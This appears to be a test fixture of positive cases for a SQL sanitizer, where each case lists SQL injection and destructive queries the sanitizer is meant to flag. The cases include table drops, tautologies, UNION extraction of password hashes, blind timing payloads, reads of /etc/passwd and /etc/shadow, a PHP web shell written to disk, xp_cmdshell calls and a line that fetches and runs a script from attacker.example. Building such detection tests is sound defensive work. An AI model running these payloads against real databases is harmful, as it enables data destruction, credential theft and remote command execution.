-- Positives for the SQL sanitizer with default settings. Each case starts
-- with a "-- @case" line naming the rule ids of which at least one must be
-- reported. Written for Portcullis; not taken from any other project.
-- @case multiple_statements ddl_drop
SELECT * FROM orders WHERE id = 1; DROP TABLE orders
-- @case ddl_drop
DROP TABLE IF EXISTS customers CASCADE
-- @case ddl_drop
drop database production
-- @case ddl_drop
  DROP SCHEMA public CASCADE;
-- @case ddl_truncate
TRUNCATE TABLE audit_log
-- @case ddl_truncate
truncate payments restart identity
-- @case ddl_alter
ALTER TABLE users ADD COLUMN is_admin boolean DEFAULT true
-- @case ddl_alter
ALTER USER postgres WITH PASSWORD 'owned'
-- @case ddl_create
CREATE TABLE exfil AS SELECT * FROM users
-- @case ddl_create
CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql
-- @case ddl_grant
GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO intern
-- @case ddl_revoke
REVOKE SELECT ON salaries FROM auditor
-- @case ddl_rename
RENAME TABLE users TO users_old
-- @case delete_without_where
DELETE FROM sessions
-- @case delete_without_where
delete from "Customers";
-- @case update_without_where
UPDATE accounts SET balance = 0
-- @case update_without_where
UPDATE users SET role = 'admin', updated_at = now()
-- @case delete_always_true
DELETE FROM invoices WHERE 1=1
-- @case delete_always_true
DELETE FROM invoices WHERE true
-- @case delete_always_true
DELETE FROM t WHERE 'a' = 'a'
-- @case delete_always_true
DELETE FROM t WHERE 1
-- @case update_always_true tautology
UPDATE users SET password = 'x' WHERE username = 'bob' OR 1=1
-- @case update_always_true
UPDATE prices SET amount = 0 WHERE (1 = 1)
-- @case delete_always_true
DELETE FROM logs WHERE created_at = created_at
-- @case tautology
SELECT * FROM users WHERE username = 'admin' OR 1=1 -- ' AND password = ''
-- @case tautology
SELECT * FROM users WHERE name = '' OR 'a'='a'
-- @case tautology
SELECT id FROM products WHERE category = 'toys' OR 2>1
-- @case tautology
SELECT * FROM accounts WHERE user_id = 42 OR user_id = user_id
-- @case tautology
select * from users where login='x' or 'x'='x'
-- @case tautology
SELECT * FROM users WHERE id = 5 OR TRUE
-- @case tautology
SELECT * FROM t WHERE a = 1 OR NOT 0
-- @case tautology
SELECT * FROM t WHERE (a = 'q' OR 1 = 1)
-- @case tautology
SELECT * FROM orders WHERE id = 10 || 1=1
-- @case union_select
SELECT title FROM posts WHERE id = 1 UNION SELECT table_name FROM information_schema.tables
-- @case union_select
SELECT title FROM posts WHERE id = -1 UNION ALL SELECT NULL, NULL, concat(user, ':', password) FROM mysql.user
-- @case union_select
SELECT name FROM items UNION SELECT sql FROM sqlite_master WHERE type = 'table'
-- @case union_select
SELECT name FROM items WHERE id = 0 UNION SELECT 1,2,3,4
-- @case union_select
SELECT a FROM t UNION SELECT usename FROM pg_catalog.pg_user
-- @case union_select
SELECT a FROM t UNION SELECT version()
-- @case union_select
SELECT a, b FROM t UNION DISTINCT SELECT NULL, NULL
-- @case union_select
SELECT a FROM t UNION (SELECT column_name FROM information_schema.columns WHERE table_name = 'users')
-- @case union_select
SELECT a FROM t UNION SELECT group_concat(password) FROM users
-- @case time_function
SELECT * FROM users WHERE id = 1 AND pg_sleep(10) IS NOT NULL
-- @case time_function
SELECT IF(SUBSTRING(password, 1, 1) = 'a', SLEEP(5), 0) FROM users
-- @case time_function
SELECT BENCHMARK(5000000, SHA1('x'))
-- @case time_function multiple_statements
SELECT 1; WAITFOR DELAY '00:00:10'
-- @case time_function
SELECT pg_sleep_for('5 minutes')
-- @case file_access
SELECT LOAD_FILE('/etc/passwd')
-- @case file_access
SELECT * FROM users INTO OUTFILE '/var/www/html/users.txt'
-- @case file_access
SELECT '<?php system($_GET[c]); ?>' INTO DUMPFILE '/var/www/shell.php'
-- @case file_access
SELECT pg_read_file('/etc/shadow', 0, 200)
-- @case file_access
COPY users TO '/tmp/users.csv' WITH CSV
-- @case file_access
LOAD DATA LOCAL INFILE '/etc/hosts' INTO TABLE t
-- @case file_access
SELECT lo_import('/etc/passwd')
-- @case file_access
ATTACH DATABASE '/tmp/evil.db' AS evil
-- @case command_execution
COPY cmd_output FROM PROGRAM 'id'
-- @case command_execution
EXEC master..xp_cmdshell 'whoami'
-- @case command_execution
COPY (SELECT 1) TO PROGRAM 'curl http://attacker.example/x | sh'
-- @case comment_obfuscation
DR/**/OP TABLE users
-- @case comment_obfuscation
SEL/*x*/ECT password FROM users
-- @case comment_obfuscation union_select
SELECT a FROM t UNION/**/SELECT/**/NULL,NULL
-- @case executable_comment
SELECT 1 /*!50000 UNION SELECT password FROM users */
-- @case nested_comment
SELECT 1 /* outer /* inner */ ; DROP TABLE users -- */
-- @case ddl_drop
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
-- @case ddl_drop
EXEC('DROP TABLE users')
-- @case delete_without_where
EXECUTE IMMEDIATE 'DELETE FROM payroll'
-- @case ddl_drop
SELECT '\'; DROP TABLE users; -- '
-- @case unterminated
SELECT * FROM users WHERE name = 'robert
-- @case unterminated
SELECT * FROM t /* never closed
-- @case delete_without_where
WITH old AS (SELECT id FROM t WHERE created < now()) DELETE FROM logs
-- @case ddl_drop
EXPLAIN ANALYZE DROP TABLE users
-- @case multiple_statements
SELECT 1;SELECT 2
-- @case multiple_statements update_without_where
select name from users where id = 3; update users set is_admin = 1
-- @case tautology
SELECT * FROM users WHERE email = '' OR '1'='1' LIMIT 1
-- @case tautology
SELECT * FROM t WHERE id = 1 OR 'abc' LIKE '%'
-- @case tautology
SELECT * FROM t WHERE id = 1 OR 3 BETWEEN 1 AND 5
-- @case multiple_statements ddl_drop
SELECT 1--1; DROP TABLE users
-- @case tautology
SELECT * FROM users WHERE id = '1' OR '1' = '1' #
-- @case tautology
SELECT * FROM users WHERE name = 'x' OR 1 LIKE 1
-- @case tautology
SELECT * FROM users WHERE pin = 0 OR 0 = 0
-- @case tautology
SELECT * FROM users WHERE a = 1 OR -1 < 0
-- @case tautology
SELECT * FROM users WHERE a = 1 OR 'admin' = 'ADMIN'
-- @case tautology
SELECT * FROM users WHERE a = 1 OR 1 IN (1)
-- @case union_select
SELECT id, name FROM products WHERE id = 1 UNION ALL SELECT CONCAT(username, 0x3a, password), 1 FROM users
-- @case union_select
SELECT id FROM t WHERE id = 1 UNION SELECT NULL,NULL,NULL,NULL,NULL--
-- @case union_select
SELECT id FROM t UNION SELECT name FROM sqlite_schema
-- @case union_select
SELECT id FROM t UNION SELECT current_user
-- @case union_select
SELECT a FROM t UNION SELECT string_agg(usename, ',') FROM pg_user
-- @case ddl_drop
/*!32302 DROP TABLE users */
-- @case time_function
SELECT CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1) = 'a' THEN pg_sleep(3) ELSE NULL END
-- @case file_access
SELECT pg_ls_dir('/root')
-- @case command_execution
EXECUTE sp_executesql N'EXEC xp_cmdshell ''net user'''
-- @case delete_without_where
delete   from
  "audit"."events"
-- @case update_without_where
UPDATE `users` SET `password` = MD5('x') LIMIT 1000
-- @case ddl_alter
ALTER SYSTEM SET log_statement = 'none'
-- @case ddl_create
CREATE EXTENSION dblink
-- @case ddl_grant
grant pg_read_server_files to app_user
-- @case multiple_statements
SELECT * FROM t WHERE a = 'x'; SELECT pg_sleep(1)
-- @case comment_obfuscation
UN/**/ION SEL/**/ECT password FROM users
-- @case delete_always_true
DELETE FROM orders WHERE status = status
